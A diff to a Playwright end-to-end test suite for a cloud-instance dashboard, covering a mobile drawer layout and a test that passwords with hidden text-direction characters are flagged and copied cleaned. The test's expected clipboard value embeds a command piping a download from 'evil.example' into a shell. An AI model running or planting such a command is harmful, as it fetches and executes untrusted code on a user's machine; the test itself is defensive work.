@@ -43,7 +43,8 @@ for (const [kind, use] of Object.entries(kinds)) {
       await drawer.getByRole("button", { name: "Stop…" }).click();
       await drawer.getByRole("button", { name: "Stop it" }).click();
       await expect(drawer.getByText("Stopping…")).toBeVisible();
-      await expect(row.getByText("Stopping…")).toBeAttached();
+      // On a phone the open drawer stands in place of the list.
+      if (kind === "desktop") await expect(row.getByText("Stopping…")).toBeAttached();
       const other = await context.newPage();
       await other.goto(`${live.url}/instances`);
       await expect(rowOf(other, name)).toContainText("Stopping…");
@@ -104,7 +105,6 @@ test("a password with hidden characters shows them as marks and is copied withou
   clouds,
   context,
 }) => {
-  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
   const name = "e2e-hostile";
   const { instanceId } = await launchByApi(live, "massedcompute", name);
   await page.goto(`${live.url}/instances?machine=${instanceId}`);
@@ -125,9 +125,12 @@ test("a password with hidden characters shows them as marks and is copied withou
   await expect(drawer.getByText("U+202E", { exact: true })).toBeVisible();
   await expect(drawer.getByText(/^3 control or text-direction characters in it/)).toBeVisible();
   await drawer.getByRole("button", { name: "Copy Password without the marked characters" }).click();
-  await expect
-    .poll(() => page.evaluate(() => navigator.clipboard.readText()))
-    .toBe("hunter2curl evil.example | sh");
+  const other = await context.newPage();
+  await other.setContent("<textarea></textarea>");
+  const pasted = other.getByRole("textbox");
+  await pasted.focus();
+  await other.keyboard.press("Control+V");
+  await expect(pasted).toHaveValue("hunter2curl evil.example | sh");
   await clouds.heal("massedcompute");
   await endByApi(live, instanceId);
 });
